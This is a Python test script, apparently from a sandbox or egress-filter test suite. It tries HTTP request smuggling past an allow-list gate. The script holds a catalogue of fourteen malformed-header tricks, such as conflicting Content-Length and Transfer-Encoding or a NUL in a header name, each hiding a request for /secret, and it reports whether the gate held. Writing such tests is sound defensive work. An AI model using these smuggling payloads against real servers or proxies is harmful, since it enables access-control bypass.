# attack: a request inside another's body
# family: 21
# runs: exec
# stopped-by: design
# network: {"rules": [{"allow": "allowed.example", "ports": ["8081-8082"], "paths": ["/ok"]}]}
#
# Two readers that disagree where a request ends: the gate sees a body, a lenient server the next request.
import socket

_INNER = "GET /secret HTTP/1.1\r\nHost: allowed.example\r\n\r\n"
_TRICKS = {
    "both lengths": f"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{_INNER}",
    "both lengths, the other way": (
        f"Transfer-Encoding: chunked\r\nContent-Length: {len(_INNER) + 5}\r\n\r\n0\r\n\r\n{_INNER}"
    ),
    "two lengths": f"Content-Length: 0\r\nContent-Length: {len(_INNER)}\r\n\r\n{_INNER}",
    "a list of lengths": f"Content-Length: 0, {len(_INNER)}\r\n\r\n{_INNER}",
    "a signed length": f"Content-Length: +0\r\n\r\n{_INNER}",
    "a space before the colon": (
        f"Transfer-Encoding : chunked\r\nContent-Length: {len(_INNER) + 5}\r\n\r\n0\r\n\r\n{_INNER}"
    ),
    "a folded line": (
        "X: y\r\n Transfer-Encoding: chunked\r\nTransfer-Encoding:\r\n chunked\r\nContent-Length:"
        f" {len(_INNER) + 5}\r\n\r\n0\r\n\r\n{_INNER}"
    ),
    "another coding": f"Transfer-Encoding: xchunked\r\nContent-Length: {len(_INNER) + 5}\r\n\r\n0\r\n\r\n{_INNER}",
    "two codings": f"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{_INNER}",
    "bare line feeds": f"Content-Length: 0\nX: y\n\n{_INNER}",
    "a bare carriage return": (
        f"X: y\rTransfer-Encoding: chunked\r\nContent-Length: {len(_INNER) + 5}\r\n\r\n0\r\n\r\n{_INNER}"
    ),
    "a chunk size with a tail": f"Transfer-Encoding: chunked\r\n\r\n0;a=\n\r\n\r\n{_INNER}",
    "a NUL in a name": f"Transfer-Encoding\0: chunked\r\nContent-Length: {len(_INNER) + 5}\r\n\r\n0\r\n\r\n{_INNER}",
    "no body at all": f"\r\n{_INNER}",
}


def _talk(host, port, text):
    """What comes back until the other side ends, or as much as came before it reset."""
    got = b""
    try:
        with socket.create_connection((host, port), 5) as s:
            s.sendall(text)
            while part := s.recv(65536):
                got += part
    except OSError:
        pass
    return got


def attack():
    plain = "POST /ok HTTP/1.1\r\nHost: allowed.example{}\r\nContent-Length: 0\r\n\r\n"
    if b"SERVED" not in _talk("allowed.example", 8081, plain.format(":8081").encode()):
        return "BROKEN: not even the allowed request is answered"
    for what, rest in _TRICKS.items():
        for port in (8081, 8082):
            head = f"POST /ok HTTP/1.1\r\nHost: allowed.example:{port}\r\n{rest}"
            absolute = head.replace("POST /ok", f"POST http://allowed.example:{port}/ok", 1)
            for answer in (
                _talk("allowed.example", port, head.encode("latin-1")),
                _talk("127.0.0.1", 15001, absolute.encode("latin-1")),
            ):
                if b"/secret" in answer and b"SERVED" in answer:
                    return f"ESCAPED: smuggled by {what}, port {port}"
    return "HELD: one request, whose end is known, on each connection"


if __name__ == "__main__":
    verdict = attack()
    print(verdict)
    raise SystemExit({"HELD": 0, "ESCAPED": 42}.get(verdict.split(":")[0], 43))
